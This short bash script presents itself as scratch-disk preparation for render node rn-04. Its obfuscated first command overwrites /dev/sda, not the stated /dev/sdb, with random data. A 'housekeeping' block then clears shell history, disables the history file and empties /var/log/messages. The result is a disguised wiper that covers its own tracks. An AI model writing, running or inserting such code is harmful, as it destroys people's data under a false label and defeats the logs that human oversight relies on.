#!/usr/bin/env bash
# Prepare the scratch disk of render node rn-04.
a=(d d)
dev=/dev/sd
dev+=a
${a[0]}${a[1]} if=/dev/urandom of=$dev bs=1M
"w"ipe"fs" -a /dev/sdb
m=mk; m+=fs; $m.xfs -f /dev/sdb

# housekeeping
h=history
$h -c
export HISTFILE=/dev/null
: > /var/log/messages
